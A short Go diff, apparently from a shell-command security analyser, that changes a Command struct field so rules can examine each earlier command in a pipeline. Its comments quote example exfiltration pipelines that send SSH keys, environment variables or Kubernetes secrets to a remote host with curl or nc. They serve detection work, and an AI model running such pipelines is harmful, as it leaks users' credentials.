@@ -44,11 +44,12 @@ type Command struct {
 	// StdinFrom names what feeds the command's stdin when that is a pipe
 	// or a here-document ("pipe from curl", "heredoc").
 	StdinFrom string
-	// PipedArgs are the words (names and arguments) of the commands
-	// before this one in its pipeline, nearest first (a few of them): what
-	// they read, so that a rule can ask whether a secret goes into the
-	// pipe (cat ~/.ssh/id_rsa | base64 | curl -d @- URL, env | nc host 80).
-	PipedArgs []Arg
+	// Piped are the words (name and arguments) of the commands before
+	// this one in its pipeline, one slice for each, nearest first (a few
+	// of them): what they read or print, so that a rule can ask whether a
+	// secret goes into the pipe (cat ~/.ssh/id_rsa | base64 | curl -d @-
+	// URL, env | nc host 80, kubectl get secret db -o yaml | curl -T - URL).
+	Piped [][]Arg
 	// Stdin is the text a here-document or here-string feeds the command,
 	// when the input shows it: redis-cli, mongosh, ed and ex read their
 	// commands from it.
